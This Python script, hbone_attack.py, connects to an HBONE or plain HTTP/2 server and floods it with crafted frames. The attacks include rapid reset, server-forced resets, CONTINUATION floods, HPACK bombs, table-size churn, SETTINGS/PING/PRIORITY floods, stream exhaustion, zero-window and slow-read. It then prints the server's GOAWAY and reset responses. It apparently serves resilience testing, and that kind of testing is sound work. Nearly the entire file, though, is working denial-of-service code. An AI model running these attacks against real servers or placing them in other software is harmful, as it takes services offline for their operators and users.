#!/usr/bin/python3
"""An HBONE client with a right certificate, or a client of plain HTTP/2, that abuses HTTP/2 (RFC 9113).

usage: hbone_attack.py ATTACK IP --roots FILE --cert FILE --key FILE --authority IP:PORT [--seconds S]
       hbone_attack.py ATTACK HOST --plain PORT --authority HOST:PORT [--seconds S]

The second has GET for CONNECT, and asks for as much by GET /bulk/BYTES as raw_origin.py serves.

Goes on until the server ends the connection, the attack has nothing more to send, or for S seconds,
and prints one JSON line: {"goaway": code or null, "closed": whether the server ended it, "resets":
{code: count}, "answers": HEADERS received, "sent": bytes, "local": [ip, port]}.
"""
import argparse
import itertools
import json
import select
import socket
import ssl
import struct
import time

from hbone_client import ACK, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, RST_STREAM, SETTINGS, frame, literal

PRIORITY, PING, WINDOW_UPDATE, CONTINUATION = 2, 6, 8, 9
HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE = 1, 4
BATCH = 200  # frames that are made at once
LINGER_S = 15  # for what the server still says
MUCH = 1_000_000_000  # bytes
AT_ONCE = 90  # streams of plain HTTP/2: fewer are allowed there


def window(stream, by):
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", by))


def setting(name, value):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", name, value))


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


class Attack:
    """Each method yields what is to be sent next."""

    def __init__(self, authority, plain):
        self.plain, self.ids = plain, itertools.count(1, 2)
        self.block = literal(":method", "CONNECT") + literal(":authority", authority)
        if plain:
            self.block = self.get("/held", authority)  # streams stay open, as those of CONNECT
            self.bulk = self.get(f"/bulk/{MUCH}", authority)

    @staticmethod
    def get(path, authority):
        return b"".join(literal(*field) for field in ((":method", "GET"), (":scheme", "http"), (":path", path),
                                                      (":authority", authority)))

    def connect(self):
        stream = next(self.ids)
        return stream, frame(HEADERS, END_HEADERS, stream, self.block)

    def forever(self, make):
        while True:
            yield b"".join(make() for _ in range(BATCH))

    def behave(self):
        """No abuse: one request, and over when it is answered."""
        yield self.connect()[1]

    def rapid_reset(self):
        def one():
            stream, request = self.connect()
            return request + reset(stream)
        return self.forever(one)

    def made_resets(self):
        """The twin of rapid reset: the server is made to reset, by a window that overflows."""
        def one():
            stream, request = self.connect()
            return request + window(stream, 0x7FFFFFFF)
        return self.forever(one)

    def continuation(self):
        yield frame(HEADERS, 0, 1, self.block)
        yield from self.forever(lambda: frame(CONTINUATION, 0, 1, literal("name", "v" * 100)))

    def large(self):
        """A request whose field of 4,000 bytes stays in the dynamic table (index 62)."""
        return frame(HEADERS, END_HEADERS, next(self.ids), self.block + b"\x40\x01n" + b"\x7f\xa1\x1e" + b"v" * 4000)

    def named(self, times):
        return frame(HEADERS, END_HEADERS, next(self.ids), self.block + b"\xbe" * times)

    def hpack_bomb(self):
        """One large field, named thousands of times a stream."""
        yield self.large()
        yield from self.forever(lambda: self.named(2000))

    def oversized_heads(self):
        """Heads that are too large, but not so large that one of them ends it."""
        yield self.large()
        yield from self.forever(lambda: self.named(20))

    def table_sizes(self):
        """A dynamic table that is asked to be huge, then resized all the time."""
        yield setting(HEADER_TABLE_SIZE, 0x7FFFFFFF)
        resize = b"\x20\x3f\xe1\x1f"  # to nothing, to 4096
        yield from self.forever(lambda: frame(HEADERS, END_HEADERS, next(self.ids), resize + self.block))

    def settings(self):
        return self.forever(lambda: setting(INITIAL_WINDOW_SIZE, 65535))

    def ping(self):
        return self.forever(lambda: frame(PING, 0, 0, b"12345678"))

    def priority(self):
        return self.forever(lambda: frame(PRIORITY, 0, next(self.ids), b"\0\0\0\0\1"))

    def empty_data(self):
        stream, request = self.connect()
        yield request
        yield from self.forever(lambda: frame(DATA, 0, stream))

    def many_streams(self):
        yield b"".join(self.connect()[1] for _ in range(10_000))

    def asked(self, count):
        """So many streams on which the application is asked for more than anybody can hold."""
        for _ in range(min(count, AT_ONCE) if self.plain else count):
            if self.plain:
                yield frame(HEADERS, END_HEADERS | END_STREAM, next(self.ids), self.bulk)
                continue
            stream, request = self.connect()
            yield request + frame(DATA, 0, stream, b'{"send": %d, "read": true}\n' % MUCH)

    def zero_window(self):
        """As many streams as are allowed, and no room for what they carry."""
        yield setting(INITIAL_WINDOW_SIZE, 0)
        yield from self.asked(190)
        yield from itertools.repeat(b"")

    def slow_read(self):
        """All the room that there can be, and a client that never reads its socket."""
        yield setting(INITIAL_WINDOW_SIZE, 0x7FFFFFFF) + window(0, 0x7FFFFFFF - 65535)
        yield from self.asked(190)
        yield from itertools.repeat(b"")

    def dribble(self):
        """The same with windows that open by one byte at a time."""
        yield setting(INITIAL_WINDOW_SIZE, 0)
        yield from self.asked(50)
        yield from self.forever(lambda: b"".join(window(stream, 1) for stream in range(1, 100, 2)))


class Client:
    def __init__(self, sock):
        self.sock, self.received = sock, b""
        self.out = {"goaway": None, "closed": False, "resets": {}, "answers": 0, "sent": 0}

    def read(self):
        """Takes what there is; false when the server ended the connection."""
        while True:
            try:
                part = self.sock.recv(1 << 16)
            except (ssl.SSLWantReadError, BlockingIOError):
                return True
            if not part:
                return False
            self.received += part
            self.frames()

    def frames(self):
        while len(self.received) >= 9:
            size = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + size:
                return
            kind, payload = self.received[3], self.received[9:9 + size]
            self.received = self.received[9 + size:]
            if kind == GOAWAY:
                self.out["goaway"] = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                code = str(int.from_bytes(payload, "big"))
                self.out["resets"][code] = self.out["resets"].get(code, 0) + 1
            elif kind == HEADERS:
                self.out["answers"] += 1

    def run(self, attack, end, reading=True, enough=None):
        """Goes on until it was answered so often, if that is not None."""
        pending = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)
        while time.monotonic() < end and self.out["answers"] != enough:
            if not pending:
                pending = next(attack, None)
                if pending is None:
                    end = min(end, time.monotonic() + LINGER_S)
                    pending = b""
            readable, writable, _ = select.select([self.sock] if reading else [], [self.sock] if pending else [], [], 0.05)
            if readable and not self.read():
                self.out["closed"] = True
                return
            if writable:
                try:
                    sent = self.sock.send(pending[:1 << 14])
                    self.out["sent"] += sent
                    pending = pending[sent:]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                    pass


def secured(plain, options):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.load_verify_locations(options.roots)
    context.set_alpn_protocols(["h2"])
    context.load_cert_chain(options.cert, options.key)
    return context.wrap_socket(plain)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("ip")
    for name in ("roots", "cert", "key"):
        parser.add_argument("--" + name)
    parser.add_argument("--authority", required=True)
    parser.add_argument("--plain", type=int, metavar="PORT")
    parser.add_argument("--seconds", type=float, default=20)
    options = parser.parse_args()
    attack, reading = Attack(options.authority, options.plain), options.attack != "slow_read"
    with socket.create_connection((options.ip, options.plain or 15008), timeout=10) as plain:
        local = plain.getsockname()[:2]
        with plain if options.plain else secured(plain, options) as sock:
            sock.setblocking(False)
            client = Client(sock)
            try:
                client.run(getattr(attack, options.attack)(), time.monotonic() + options.seconds, reading,
                           1 if options.attack == "behave" else None)
            except OSError:  # reset while we send: what it said may still be there
                client.out["closed"] = True
                try:
                    client.read()
                except OSError:
                    pass
    print(json.dumps({**client.out, "local": local}), flush=True)


if __name__ == "__main__":
    main()
